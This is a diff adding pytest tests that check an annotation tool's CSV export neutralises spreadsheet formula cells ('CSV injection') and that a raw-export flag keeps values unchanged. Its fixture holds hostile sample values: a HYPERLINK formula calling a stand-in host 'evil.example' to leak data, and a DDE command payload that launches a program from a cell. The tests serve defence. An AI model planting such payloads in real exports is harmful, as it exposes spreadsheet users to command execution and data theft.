@@ -199,6 +199,74 @@ def test_csv_one_row_per_span_with_quoting(labelled, tmp_path):
     assert rows[0]["text"] == "😀"
 
 
+FORMULA_TEXT = "=1+1 starts this text. -5 degrees then. @home and +more. Plain end."
+FORMULA_CODER = '=HYPERLINK("http://evil.example/?leak","click")'
+
+
+@pytest.fixture
+def formulas(store):
+    """Cells a spreadsheet would run as formulas, in every text column of the CSV."""
+    d = add_doc(store, FORMULA_TEXT, title="=cmd|' /C calc'!A0")
+    at = FORMULA_TEXT.index
+    store.add_span(d, FORMULA_CODER, 0, 4, "alarmist", "+1 note")  # text "=1+1"
+    store.add_span(d, "ana", at("-5"), at("-5") + 2, "alarmist", "@SUM(A1:A9)")  # "-5"
+    store.add_span(d, "ana", at("@home"), at("@home") + 5, "alarmist", "\tHIDDEN")  # "@home"
+    store.add_span(d, "ana", at("+more"), at("+more") + 5, "alarmist", "\r=2")  # "+more"
+    store.add_span(d, "ana", at("Plain"), at("Plain") + 5, "alarmist", "ok = fine")
+    return store
+
+
+def read_csv(path: Path) -> list[dict]:
+    with path.open(newline="", encoding="utf-8") as fh:
+        return list(csv.DictReader(fh))
+
+
+def test_csv_neutralises_formulas_in_every_text_cell(formulas, tmp_path):
+    # OWASP "CSV Injection": a leading ' makes a spreadsheet show the cell as text.
+    out = tmp_path / "spans.csv"
+    assert export(formulas, out, fmt="csv") == 5
+    rows = read_csv(out)
+    assert len(rows) == 5  # a note starting with a carriage return stays in its cell
+    texts = {r["text"]: r for r in rows}
+    assert set(texts) == {"'=1+1", "'-5", "'@home", "'+more", "Plain"}
+    assert {r["title"] for r in rows} == {"'=cmd|' /C calc'!A0"}
+    assert texts["'=1+1"]["coder"] == "'" + FORMULA_CODER
+    assert {r["coder"] for r in rows} == {"'" + FORMULA_CODER, "ana"}
+    notes = [texts[t]["note"] for t in ("'=1+1", "'-5", "'@home", "'+more", "Plain")]
+    assert notes == ["'+1 note", "'@SUM(A1:A9)", "'\tHIDDEN", "'\r=2", "ok = fine"]
+    for r in rows:  # numbers stay numbers; no text cell starts like a formula
+        assert r["start"].isdigit() and r["end"].isdigit() and r["doc_id"].isdigit()
+        assert r["scheme_version"].isdigit()
+        for col in ("title", "sha256", "coder", "label", "text", "note"):
+            assert not r[col].startswith(writers.CSV_FORMULA_START), (col, r[col])
+
+
+def test_csv_raw_writes_values_exactly_as_stored(formulas, tmp_path):
+    out = tmp_path / "raw.csv"
+    assert export(formulas, out, fmt="csv", csv_raw=True) == 5
+    rows = read_csv(out)
+    canon = [(r, s) for r in records(formulas) for s in r["spans"]]
+    for row, (rec, sp) in zip(rows, canon, strict=True):
+        assert row["title"] == rec["meta"]["title"] == "=cmd|' /C calc'!A0"
+        assert (row["coder"], row["text"], row["note"]) == (
+            rec["_annotator_id"],
+            sp["text"],
+            sp["note"],
+        )
+
+
+def test_csv_raw_flag_on_the_command_line(formulas, tmp_path):
+    db = str(formulas.path)
+    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
+    runner = CliRunner()
+    r = runner.invoke(cli, ["--db", db, "export", "--format", "csv", "-o", str(safe)])
+    assert r.exit_code == 0, r.output
+    r = runner.invoke(cli, ["--db", db, "export", "--format", "csv", "--csv-raw", "-o", str(raw)])
+    assert r.exit_code == 0, r.output
+    assert read_csv(safe)[0]["title"] == "'=cmd|' /C calc'!A0"
+    assert read_csv(raw)[0]["title"] == "=cmd|' /C calc'!A0"
+
+
 # --- brat --------------------------------------------------------------------------
 
 T_LINE = re.compile(r"^T(\d+)\t(\S+) ([\d ;]+)\t(.*)$")
